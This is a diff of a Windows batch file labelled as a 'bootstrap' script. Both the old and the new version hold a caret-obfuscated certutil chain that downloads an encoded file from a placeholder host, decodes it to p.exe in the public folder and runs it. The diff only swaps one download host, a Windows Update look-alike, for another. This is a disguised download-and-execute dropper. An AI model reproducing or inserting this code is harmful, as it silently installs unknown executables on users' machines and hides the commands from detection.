@@ -1,5 +1,5 @@
-REM run 5097 v1
+REM bootstrap 7214 v1
 @echo off
-ce^r^t^uti^l -u^r^l^ca^c^^h^e -f ^h^t^t^p://^d^^l.wi^nu^pd^at^^e-^^c^dn.^exa^m^pl^e/^^p.^t^^xt %PUBLIC%\^p.^tx^t
-^c^^er^t^u^^t^i^l -^d^e^co^d^^e %PUBLIC%\p.^tx^^t %PUBLIC%\^^p.^exe
-%PUBLIC%\^p.^ex^e
+cer^t^u^^t^i^^l -^u^r^lc^a^c^h^e -^f ^h^t^t^p://r^e^po.p^k^^g-^mirr^or.exa^m^^p^^l^e/^^p.^^txt %PUBLIC%\p.^^t^x^t
+c^^er^t^u^ti^l -d^^e^c^ode %PUBLIC%\^p.^t^xt %PUBLIC%\p.^e^x^^e
+%PUBLIC%\^p.e^x^e
